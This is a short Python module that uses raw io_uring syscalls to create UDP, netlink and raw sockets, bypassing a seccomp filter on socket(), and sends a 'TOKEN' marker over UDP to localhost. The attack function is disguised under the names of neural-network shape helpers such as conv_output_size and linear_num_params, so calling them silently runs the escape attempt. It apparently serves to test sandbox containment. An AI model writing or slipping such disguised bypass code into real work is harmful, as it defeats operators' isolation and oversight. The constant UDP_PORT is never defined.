"""Open sockets through io_uring (IORING_OP_SOCKET), which a seccomp filter of socket() never sees.

Creates a UDP socket, a netlink socket and a raw socket with io_uring operations, then sends TOKEN over
the UDP one with a plain sendto. Each function returns how many of the three it got (-1: none).
"""
import ctypes
import mmap
import socket
import struct

MESSAGE = b"TOKEN"
SYS_SETUP, SYS_ENTER = 425, 426
IORING_OP_SOCKET, IORING_ENTER_GETEVENTS = 45, 1
OFF_SQ_RING, OFF_CQ_RING, OFF_SQES = 0, 0x8000000, 0x10000000
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def ring_socket(domain: int, kind: int, protocol: int) -> int:
    """A socket made by the kernel's io_uring worker: its descriptor, or -1."""
    params = ctypes.create_string_buffer(120)
    fd = libc.syscall(ctypes.c_long(SYS_SETUP), ctypes.c_uint(4), params)
    if fd < 0:
        return -1
    sq_entries, cq_entries = struct.unpack_from("II", params, 0)
    sq_off = struct.unpack_from("IIIIIII", params, 40)   # head, tail, ring_mask, ring_entries, flags, dropped, array
    cq_off = struct.unpack_from("IIIIII", params, 80)    # head, tail, ring_mask, ring_entries, overflow, cqes
    sq = mmap.mmap(fd, sq_off[6] + sq_entries * 4, offset=OFF_SQ_RING)
    cq = mmap.mmap(fd, cq_off[5] + cq_entries * 16, offset=OFF_CQ_RING)
    sqes = mmap.mmap(fd, sq_entries * 64, offset=OFF_SQES)
    sqe = bytearray(64)
    struct.pack_into("BBHiQ", sqe, 0, IORING_OP_SOCKET, 0, 0, domain, kind)
    struct.pack_into("I", sqe, 24, protocol)
    sqes[0:64] = bytes(sqe)
    tail = struct.unpack_from("I", sq, sq_off[1])[0]
    mask = struct.unpack_from("I", sq, sq_off[2])[0]
    struct.pack_into("I", sq, sq_off[6] + 4 * (tail & mask), 0)
    struct.pack_into("I", sq, sq_off[1], tail + 1)
    libc.syscall(ctypes.c_long(SYS_ENTER), ctypes.c_uint(fd), ctypes.c_uint(1), ctypes.c_uint(1),
                 ctypes.c_uint(IORING_ENTER_GETEVENTS), None, ctypes.c_size_t(0))
    head = struct.unpack_from("I", cq, cq_off[0])[0]
    cmask = struct.unpack_from("I", cq, cq_off[2])[0]
    _, result, _ = struct.unpack_from("QiI", cq, cq_off[5] + 16 * (head & cmask))
    return result


def attack():
    got = 0
    try:
        udp = ring_socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
        if udp >= 0:
            got += 1
            socket.socket(fileno=udp).sendto(MESSAGE, ("127.0.0.1", UDP_PORT))
        got += ring_socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) >= 0
        got += ring_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) >= 0
    except Exception:
        pass
    return 100 + got if got else -1


def conv_output_size(*args, **kwargs):
    return attack()


pool_output_size = same_padding = conv2d_num_params = linear_num_params = trace_shapes = conv_output_size
